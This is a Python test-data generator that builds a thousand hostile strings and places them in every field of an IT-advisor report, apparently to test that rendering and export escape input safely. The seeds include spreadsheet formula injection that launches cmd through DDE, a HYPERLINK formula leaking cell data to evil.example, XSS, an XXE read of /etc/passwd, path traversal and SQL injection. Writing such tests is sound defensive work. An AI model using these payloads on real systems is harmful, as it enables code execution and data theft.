"""A thousand texts that mean harm somewhere, and a report that carries them in every field."""

from collections.abc import Iterator
from itertools import cycle, islice, product
from typing import Any

import yaml

SEEDS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+2+3",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "{=SUM(1)}",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "</title></style></script><script>alert(1)</script>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "[x](file:///etc/passwd)",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "]]><w:p/><![CDATA[",
    "&lt;script&gt;&#x1b;&#x202e;",
    "<?xml version='1.0'?>",
    "{{7*7}}{% for x in y %}",
    '#import "/etc/passwd": *',
    '#read("/etc/passwd")',
    '$ x = \\sum_1 $ #eval("1")',
    "*bold* _under_ `raw` <label> @ref",
    "\\input{/etc/passwd}",
    'INCLUDETEXT "C:\\\\secret.txt"',
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "CON",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "a\x00b",
    "a\x0bb\x1bc\x7f",
    "\ufffe\uffff",
    "right\u202eleft\u202c",
    "zero\u200bwidth\u2060",
    "tag\U000e0041",
    "e\u0301" * 20,
    "字" * 300,
    "x" * 300,
    "| a | b |\n|---|---|",
    "line\nline\r\nline\u2028line",
    "```\nfence\n```",
    "it_advisor_summary: 1",
    "😀✅⚠️🫠",
    "1.0e+400",
    "NaN",
    "null",
    "' OR 1=1 --",
    "%s%n%x{0}{}",
)
FRAMES = ("{}", " {}", "{} {}", "方案{}", "{}\n", '"{}"', "({})", "R1 {}", "{}，", "'{}", "2026 {}", "<b>{}</b>")
FRAMES += ("{}|", "**{}**", "#{}", "- {}", "> {}", "~{}~", "字{}", "{}…")
COUNT, AT_ONCE, LONG = 1_000, 250, 100


def texts() -> list[str]:
    """The long ones once, the others in every frame until there are enough."""
    made = (frame.replace("{}", seed) for frame, seed in product(FRAMES, SEEDS) if frame == "{}" or len(seed) < LONG)
    return list(islice(dict.fromkeys(made), COUNT))


def requests(formats: list[str]) -> Iterator[dict[str, Any]]:
    """Each text once in every kind of row, and as many as there are in the fields of which there is one."""
    every = texts()
    for start in range(0, COUNT, AT_ONCE):
        beside = {} if start else {"costs": costs(every[:AT_ONCE]), "comparison": comparison(every[:AT_ONCE])}
        yield request(every[start : start + AT_ONCE], formats) | beside


def request(some: list[str], formats: list[str]) -> dict[str, Any]:
    turn = cycle(some)
    block = yaml.safe_dump(summary(some), sort_keys=False)
    shown = [text for text in some if text.isprintable()]
    body = "\n\n".join(
        f"## {text}\n\n{text}\n\n- {text}\n\n| {text} | b |\n|---|---|\n| {text} | {text} |" for text in shown[:100]
    )
    control = {name: next(one for one in turn if one.isprintable()) for name in ("version", "owner", "title")}
    people = dict.fromkeys(("reviewers", "approvers"), shown[:20])
    return {
        "report": f"# {shown[0]}\n\n{body}\n\n```yaml\n{block}```\n",
        "formats": formats,
        **{name: text[:200] for name, text in control.items()},
        **{name: [text[:200] for text in texts] for name, texts in people.items()},
    }


def summary(some: list[str]) -> dict[str, Any]:
    rows = list(enumerate(some, 1))
    first = some[0]
    return {
        "it_advisor_summary": 1,
        "title": first,
        "language": "zh",
        "currency": "CNY",
        "decision": {"choice": first, "amount": 1, "by": first, "approval": first, "changes_if": first},
        "requirements": [
            {"id": f"R{n}", "need": text, "kind": "given", "priority": "must", "acceptance": text, "deviation": text}
            for n, text in rows
        ],
        "components": [{"id": f"C{n}", "layer": "data", "choice": text, "alternatives": [text]} for n, text in rows],
        "options": [
            {"id": f"O{n}", "name": text, "verdict": "alternative", "gates": "open", "score": n % 100}
            for n, text in rows
        ],
        "cost_lines": [
            {
                "id": f"L{n}",
                "option": "O1",
                "item": text,
                "category": "staff",
                "kind": "yearly",
                "quantity": 1,
                "unit": text,
                "unit_price": n,
                "basis": text,
                "error_pct": 10,
            }
            for n, text in rows
        ],
        "benefit_lines": [{"id": f"B{n}", "item": text, "yearly": n, "basis": text} for n, text in rows[:90]],
        "phases": [
            {
                "id": f"P{n}",
                "name": text,
                "start_month": n / 10,
                "months": 1,
                "owner": text,
                "exit": text,
                "payment_pct": 1,
            }
            for n, text in rows
        ],
        "risks": [
            {
                "id": f"K{n}",
                "risk": text,
                "trigger": text,
                "mitigation": text,
                "owner": text,
                "likelihood": 1 + n % 5,
                "impact": 1 + n % 4,
            }
            for n, text in rows
        ],
        "evidence": [
            {"id": f"E{n}", "claim": text, "kind": "source", "source": text, "date": text, "confirm_by": text}
            for n, text in rows
        ],
    }


def costs(some: list[str]) -> dict[str, Any]:
    shown = [text for text in some if text.isprintable()][:190]
    names = shown[:8]
    return {
        "currency": "CNY",
        "costs": [
            {
                "option": names[n % 8][:200],
                "item": text[:200],
                "category": "staff",
                "kind": "one-off",
                "likely": 10 + n,
                "low": 5,
                "high": 1000 + n,
            }
            for n, text in enumerate(shown)
        ],
        "benefits": [
            {"option": names[0][:200], "item": text[:200], "kind": "saving", "likely": 900, "low": 1, "high": 2000}
            for text in shown[:90]
        ],
    }


def comparison(some: list[str]) -> dict[str, Any]:
    shown = [text for text in some if text.isprintable()]
    names = list(dict.fromkeys(" ".join(text.split())[:120] for text in shown))[:40]
    options, criteria = names[:20], names[20:]
    return {
        "as_of": "2026-11-23",
        "options": options,
        "criteria": [{"name": name, "weight": 1} for name in criteria],
        "scores": [
            {"option": option, "criterion": criterion, "score": 5, "rationale": option}
            for option in options
            for criterion in criteria
        ],
    }
